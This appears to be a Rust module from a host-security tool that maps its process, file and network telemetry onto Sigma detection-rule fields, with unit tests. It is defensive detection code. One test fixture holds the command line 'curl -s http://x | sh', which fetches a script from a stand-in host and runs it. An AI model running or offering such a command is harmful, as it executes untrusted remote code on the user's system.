//! Which Bannin telemetry a Sigma rule sees, and under what field names.
//!
//! This is the one field mapping table (README "Sigma rules" prints the same).
//! Sigma's Linux log sources are Sysmon-for-Linux shaped; Bannin's events carry
//! the same facts under its own attribute names, so each Sigma field is read
//! from one attribute (or computed from a few). A rule naming a field that is not
//! in this table is refused at load: it could never match, and saying so beats a
//! rule that silently never fires.

use std::borrow::Cow;
use std::collections::BTreeMap;

use rsigma_eval::{Event, EventValue};
use serde_json::Value;

/// A Sigma log source category Bannin provides (always `product: linux`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Category {
    /// `process_creation`, from `process.exec`.
    ProcessCreation,
    /// `file_event`, from the integrity, odd-name and watched-directory sensors.
    FileEvent,
    /// `network_connection`, from `net.connection`.
    NetworkConnection,
}

impl Category {
    /// Every category, in table order.
    pub const ALL: [Category; 3] = [
        Category::ProcessCreation,
        Category::FileEvent,
        Category::NetworkConnection,
    ];

    /// The Sigma name.
    pub fn name(self) -> &'static str {
        match self {
            Category::ProcessCreation => "process_creation",
            Category::FileEvent => "file_event",
            Category::NetworkConnection => "network_connection",
        }
    }

    /// Parses a Sigma category name.
    pub fn from_name(name: &str) -> Option<Self> {
        Category::ALL.into_iter().find(|c| c.name() == name)
    }

    /// Index into per-category arrays.
    pub fn index(self) -> usize {
        self as usize
    }

    /// The category of a Bannin event, if it is one Sigma rules see.
    ///
    /// File events are creations and changes: a removal (`change = removed`) is
    /// Sigma's `file_delete`, which Bannin does not offer.
    pub fn of_event(kind: &str, attributes: &BTreeMap<String, String>) -> Option<Self> {
        match kind {
            "process.exec" => Some(Category::ProcessCreation),
            "net.connection" => Some(Category::NetworkConnection),
            "file.modified" => (attributes.get("change").map(String::as_str) != Some("removed"))
                .then_some(Category::FileEvent),
            "file.executable_dropped" | "file.archive" | "file.odd_name" => {
                Some(Category::FileEvent)
            }
            _ => None,
        }
    }
}

/// The event kinds that can carry a Sigma category (a cheap pre-filter on the
/// decoded event header, before the attributes are decoded).
pub const EVENT_KINDS: [&str; 6] = [
    "process.exec",
    "net.connection",
    "file.modified",
    "file.executable_dropped",
    "file.archive",
    "file.odd_name",
];

/// How a Sigma field's value is made from a Bannin event's attributes.
#[derive(Debug, Clone, Copy)]
pub enum Source {
    /// The first of these attributes present, as text.
    Text(&'static [&'static str]),
    /// The first of these attributes present, as an integer.
    Number(&'static [&'static str]),
    /// `SHA256=<hex>` from `sha256` (Sysmon's `Hashes` shape).
    Hashes,
    /// `true` for an outbound connection (`direction`), `false` for inbound.
    Initiated,
    /// The initiator's side of a connection: `outbound` reads the first
    /// attribute, `inbound` the second.
    Directional {
        /// Read for an outbound connection.
        outbound: &'static str,
        /// Read for an inbound connection.
        inbound: &'static str,
        /// Whether the value is a number (a port).
        number: bool,
    },
    /// The Bannin host id of the agent that sent the event.
    Host,
}

/// One row of the mapping table.
#[derive(Debug, Clone, Copy)]
pub struct FieldMap {
    /// The log source it belongs to.
    pub category: Category,
    /// The Sigma field name.
    pub field: &'static str,
    /// Where its value comes from.
    pub source: Source,
    /// What it means, as README documents it.
    pub note: &'static str,
}

const fn row(
    category: Category,
    field: &'static str,
    source: Source,
    note: &'static str,
) -> FieldMap {
    FieldMap {
        category,
        field,
        source,
        note,
    }
}

use Category::{FileEvent as F, NetworkConnection as N, ProcessCreation as P};

/// The field mapping: every Sigma field Bannin provides, per log source.
pub const FIELDS: &[FieldMap] = &[
    row(
        P,
        "Image",
        Source::Text(&["exe"]),
        "`exe`: the executable's path",
    ),
    row(
        P,
        "CommandLine",
        Source::Text(&["cmdline"]),
        "`cmdline`: arguments joined by spaces",
    ),
    row(
        P,
        "ParentImage",
        Source::Text(&["parent_exe"]),
        "`parent_exe`",
    ),
    row(
        P,
        "ParentCommandLine",
        Source::Text(&["parent_cmdline"]),
        "`parent_cmdline`",
    ),
    row(
        P,
        "User",
        Source::Text(&["user"]),
        "`user`: the real user's name (\"\" if the uid has none)",
    ),
    row(
        P,
        "CurrentDirectory",
        Source::Text(&["cwd"]),
        "`cwd`: the working directory at exec",
    ),
    row(P, "ProcessId", Source::Number(&["pid"]), "`pid`"),
    row(P, "ParentProcessId", Source::Number(&["ppid"]), "`ppid`"),
    row(
        P,
        "Hashes",
        Source::Hashes,
        "`SHA256=<sha256>` of the executable",
    ),
    row(P, "HostId", Source::Host, "Bannin extension: the host's id"),
    row(
        F,
        "TargetFilename",
        Source::Text(&["path"]),
        "`path`: the file created or changed",
    ),
    row(
        F,
        "Image",
        Source::Text(&["by_exe", "exe"]),
        "`by_exe`: the program the kernel names as the writer (fanotify), when known",
    ),
    row(
        F,
        "User",
        Source::Text(&["user"]),
        "`user`: the name of the file's owner (its creator's user)",
    ),
    row(F, "HostId", Source::Host, "Bannin extension: the host's id"),
    row(
        N,
        "Image",
        Source::Text(&["exe"]),
        "`exe` of the socket's owner, when known",
    ),
    row(
        N,
        "DestinationIp",
        Source::Directional {
            outbound: "remote_address",
            inbound: "local_address",
            number: false,
        },
        "the accepting side's address (remote for outbound, local for inbound)",
    ),
    row(
        N,
        "DestinationPort",
        Source::Directional {
            outbound: "remote_port",
            inbound: "local_port",
            number: true,
        },
        "the accepting side's port",
    ),
    row(
        N,
        "SourceIp",
        Source::Directional {
            outbound: "local_address",
            inbound: "remote_address",
            number: false,
        },
        "the initiating side's address",
    ),
    row(
        N,
        "SourcePort",
        Source::Directional {
            outbound: "local_port",
            inbound: "remote_port",
            number: true,
        },
        "the initiating side's port",
    ),
    row(
        N,
        "Initiated",
        Source::Initiated,
        "`true` if this host opened the connection (`direction = outbound`)",
    ),
    row(
        N,
        "Protocol",
        Source::Text(&["protocol"]),
        "`tcp`, `tcp6`, `udp` or `udp6`",
    ),
    row(
        N,
        "User",
        Source::Text(&["user"]),
        "`user`: the socket owner's name",
    ),
    row(N, "HostId", Source::Host, "Bannin extension: the host's id"),
];

/// Fields Sigma rules use that Bannin knowingly cannot provide, with why: the
/// refusal says this instead of "unknown field".
pub const UNAVAILABLE: &[(&str, &str)] = &[(
    "DestinationHostname",
    "Bannin sees connections in the kernel's socket tables, which hold addresses, not the names a program resolved",
)];

/// Whether `field` is provided for `category`.
pub fn provided(category: Category, field: &str) -> bool {
    FIELDS
        .iter()
        .any(|f| f.category == category && f.field == field)
}

/// A scalar value of a mapped field.
#[derive(Debug, Clone, PartialEq)]
enum Scalar {
    Text(String),
    Number(i64),
    Bool(bool),
}

/// A Bannin event as a Sigma rule sees it: the mapped fields of its category.
#[derive(Debug, Clone)]
pub struct SigmaEvent {
    /// Its log source.
    pub category: Category,
    /// The host that sent it.
    pub host: String,
    /// The Bannin event kind it came from.
    pub kind: String,
    /// When the agent observed it (Unix ms).
    pub observed_unix_ms: i64,
    fields: Vec<(&'static str, Scalar)>,
}

impl SigmaEvent {
    /// The Sigma view of a Bannin event, or `None` if no log source covers it.
    pub fn from_event(
        host: &str,
        kind: &str,
        observed_unix_ms: i64,
        attributes: &BTreeMap<String, String>,
    ) -> Option<Self> {
        let category = Category::of_event(kind, attributes)?;
        let first = |names: &[&str]| names.iter().find_map(|n| attributes.get(*n));
        let outbound = attributes.get("direction").map(String::as_str) != Some("inbound");
        let mut fields = Vec::with_capacity(12);
        for map in FIELDS.iter().filter(|f| f.category == category) {
            let value = match map.source {
                Source::Text(names) => first(names).map(|v| Scalar::Text(v.clone())),
                Source::Number(names) => {
                    first(names).and_then(|v| v.parse().ok().map(Scalar::Number))
                }
                Source::Hashes => first(&["sha256"]).map(|v| Scalar::Text(format!("SHA256={v}"))),
                Source::Initiated => attributes
                    .get("direction")
                    .map(|d| Scalar::Bool(d == "outbound")),
                Source::Directional {
                    outbound: o,
                    inbound: i,
                    number,
                } => first(&[if outbound { o } else { i }]).and_then(|v| {
                    if number {
                        v.parse().ok().map(Scalar::Number)
                    } else {
                        Some(Scalar::Text(v.clone()))
                    }
                }),
                Source::Host => Some(Scalar::Text(host.to_owned())),
            };
            if let Some(v) = value {
                fields.push((map.field, v));
            }
        }
        Some(Self {
            category,
            host: host.to_owned(),
            kind: kind.to_owned(),
            observed_unix_ms,
            fields,
        })
    }

    /// The mapped fields as text, for a finding's attributes (`event.<Field>`).
    pub fn text_fields(&self) -> impl Iterator<Item = (&'static str, String)> + '_ {
        self.fields.iter().map(|(k, v)| {
            (
                *k,
                match v {
                    Scalar::Text(s) => s.clone(),
                    Scalar::Number(n) => n.to_string(),
                    Scalar::Bool(b) => b.to_string(),
                },
            )
        })
    }

    fn value(v: &Scalar) -> EventValue<'_> {
        match v {
            Scalar::Text(s) => EventValue::Str(Cow::Borrowed(s)),
            Scalar::Number(n) => EventValue::Int(*n),
            Scalar::Bool(b) => EventValue::Bool(*b),
        }
    }
}

impl Event for SigmaEvent {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        self.fields
            .iter()
            .find(|(k, _)| *k == path)
            .map(|(_, v)| Self::value(v))
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        self.fields.iter().any(|(_, v)| match v {
            Scalar::Text(s) => pred(s),
            Scalar::Number(n) => pred(&n.to_string()),
            Scalar::Bool(_) => false,
        })
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        self.fields
            .iter()
            .filter_map(|(_, v)| match v {
                Scalar::Text(s) => Some(Cow::Borrowed(s.as_str())),
                Scalar::Number(n) => Some(Cow::Owned(n.to_string())),
                Scalar::Bool(_) => None,
            })
            .collect()
    }

    /// The event as JSON; `_id` (which rules cannot name) carries the host, so
    /// a correlation's event references say which hosts took part.
    fn to_json(&self) -> Value {
        let mut map = serde_json::Map::new();
        for (k, v) in &self.fields {
            let v = match v {
                Scalar::Text(s) => Value::String(s.clone()),
                Scalar::Number(n) => Value::from(*n),
                Scalar::Bool(b) => Value::Bool(*b),
            };
            map.insert((*k).to_owned(), v);
        }
        map.insert("_id".into(), Value::String(self.host.clone()));
        Value::Object(map)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn attrs(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect()
    }

    #[test]
    fn an_exec_maps_to_process_creation() {
        let e = SigmaEvent::from_event(
            "web-01",
            "process.exec",
            1,
            &attrs(&[
                ("exe", "/usr/bin/curl"),
                ("cmdline", "curl -s http://x | sh"),
                ("pid", "42"),
                ("sha256", "ab"),
                ("cwd", "/tmp"),
            ]),
        )
        .expect("mapped");
        assert_eq!(e.category, Category::ProcessCreation);
        assert_eq!(
            e.get_field("Image"),
            Some(EventValue::Str("/usr/bin/curl".into()))
        );
        assert_eq!(e.get_field("ProcessId"), Some(EventValue::Int(42)));
        assert_eq!(
            e.get_field("Hashes"),
            Some(EventValue::Str("SHA256=ab".into()))
        );
        assert_eq!(
            e.get_field("HostId"),
            Some(EventValue::Str("web-01".into()))
        );
        assert_eq!(e.get_field("ParentImage"), None, "absent, not empty");
    }

    #[test]
    fn connections_are_seen_from_the_initiator() {
        let outbound = attrs(&[
            ("direction", "outbound"),
            ("local_address", "10.0.0.1"),
            ("local_port", "40000"),
            ("remote_address", "203.0.113.9"),
            ("remote_port", "4444"),
        ]);
        let e = SigmaEvent::from_event("h", "net.connection", 1, &outbound).expect("mapped");
        assert_eq!(
            e.get_field("DestinationIp"),
            Some(EventValue::Str("203.0.113.9".into()))
        );
        assert_eq!(e.get_field("DestinationPort"), Some(EventValue::Int(4444)));
        assert_eq!(e.get_field("Initiated"), Some(EventValue::Bool(true)));
        let mut inbound = outbound.clone();
        inbound.insert("direction".into(), "inbound".into());
        let e = SigmaEvent::from_event("h", "net.connection", 1, &inbound).expect("mapped");
        assert_eq!(
            e.get_field("SourceIp"),
            Some(EventValue::Str("203.0.113.9".into()))
        );
        assert_eq!(e.get_field("DestinationPort"), Some(EventValue::Int(40000)));
        assert_eq!(e.get_field("Initiated"), Some(EventValue::Bool(false)));
    }

    #[test]
    fn removals_and_other_kinds_are_not_sigma_events() {
        let removed = attrs(&[("path", "/etc/x"), ("change", "removed")]);
        assert!(SigmaEvent::from_event("h", "file.modified", 1, &removed).is_none());
        let added = attrs(&[("path", "/etc/x"), ("change", "added")]);
        assert!(SigmaEvent::from_event("h", "file.modified", 1, &added).is_some());
        assert!(SigmaEvent::from_event("h", "account.new_user", 1, &added).is_none());
        for kind in EVENT_KINDS {
            assert!(Category::of_event(kind, &added).is_some(), "{kind}");
        }
    }
}
